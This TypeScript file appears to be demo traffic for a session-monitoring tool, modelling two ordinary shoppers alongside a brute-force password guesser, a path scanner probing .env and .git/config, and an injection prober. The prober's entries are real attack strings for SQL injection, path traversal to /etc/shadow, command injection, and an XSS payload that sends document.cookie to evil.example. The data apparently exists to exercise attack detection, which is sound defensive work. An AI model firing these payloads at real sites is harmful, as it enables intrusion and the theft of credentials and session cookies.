import type { RequestRecord } from '@session-warden/core';

type Visit = Omit<RequestRecord, 'sessionID'>;

/** A client in the demo: who it is and the requests it sends, `gapMs` apart. */
export interface DemoClient {
  label: string;
  ip: string;
  sessions: { gapMs: number; requests: Partial<Visit>[] }[];
}

const browser = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0';

const page = (path: string, extra: Partial<Visit> = {}): Partial<Visit> => ({ method: 'GET', path, statusCode: 200, ...extra });
const assets = ['/app.css', '/app.js', '/logo.svg'].map((p) => page(p));

/** Hand-written traffic: two people, and three kinds of attacker. */
export const DEMO_CLIENTS: DemoClient[] = [
  {
    label: 'shopper', ip: '198.51.100.10',
    sessions: [{ gapMs: 2500, requests: [
      page('/'), ...assets, page('/search', { query: 'q=blue+running+shoes' }), page('/products/42'),
      page('/cart', { method: 'POST', statusCode: 201, body: { productId: '42', size: '42 EU', qty: 1 } }),
      page('/checkout', { method: 'POST', statusCode: 201, body: { name: "Siobhán O'Neill", address: '12 Rue de l\'Église, Lyon', note: 'Leave it with the concierge, s\'il vous plaît' } }),
    ] }],
  },
  {
    label: 'returning customer', ip: '198.51.100.11',
    sessions: [{ gapMs: 4000, requests: [
      page('/login'), page('/login', { method: 'POST', statusCode: 302, body: { username: 'maria.garcia', password: '[REDACTED]' } }),
      page('/account/orders'), page('/products/7', { query: 'ref=orders' }),
      page('/reviews', { method: 'POST', statusCode: 201, body: { rating: '5', text: 'Size 1 < size 2, and 3 > 2: pick one up. Fits great!' } }),
    ] }],
  },
  {
    label: 'password guesser', ip: '203.0.113.66',
    sessions: [{ gapMs: 350, requests: Array.from({ length: 40 }, (_, i) =>
      page('/login', { method: 'POST', statusCode: 401, userAgent: 'python-requests/2.32', body: { username: 'admin', password: `[REDACTED]${i}` } })) }],
  },
  {
    label: 'injection prober', ip: '203.0.113.77',
    sessions: [
      { gapMs: 900, requests: [page('/search', { query: "q=shoes'%20UNION%20SELECT%20username,password%20FROM%20users--", statusCode: 500 }), page('/products/1', { query: 'id=1%20AND%20SLEEP(5)' })] },
      { gapMs: 900, requests: [page('/search', { query: 'q=%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E' }), page('/reviews', { method: 'POST', statusCode: 201, body: { text: '<svg/onload=fetch(`//evil.example/`+document.cookie)>' } })] },
      { gapMs: 900, requests: [page('/download', { query: 'file=..%2F..%2F..%2F..%2Fetc%2Fshadow', statusCode: 404 }), page('/ping', { query: 'host=127.0.0.1%3Bcat%20/etc/hosts' })] },
    ],
  },
  {
    label: 'path scanner', ip: '203.0.113.88',
    sessions: [{ gapMs: 120, requests: ['/.env', '/.git/config', '/wp-login.php', '/phpmyadmin/', '/admin/', '/backup.zip', '/config.php.bak', '/server-status']
      .map((path) => page(path, { statusCode: 404, userAgent: 'Mozilla/5.0 (compatible; scan/1.0)' })) }],
  },
];

/** Turns the clients into records with timestamps; sessions of one client are 60 s apart so each stands alone. */
export function demoRecords(start: number): Visit[] {
  const records: Visit[] = [];
  for (const client of DEMO_CLIENTS) {
    let t = start;
    for (const session of client.sessions) {
      for (const r of session.requests) {
        records.push({
          clientIP: client.ip, ipSource: 'socket', method: 'GET', path: '/', query: '', statusCode: 200,
          timestamp: new Date(t), durationMs: 4, requestBytes: 380, responseBytes: 5120, userAgent: browser, ...r,
        });
        t += session.gapMs;
      }
      t += 60_000;
    }
  }
  return records.sort((a, b) => a.timestamp.getTime() - b.timestamp.getTime());
}
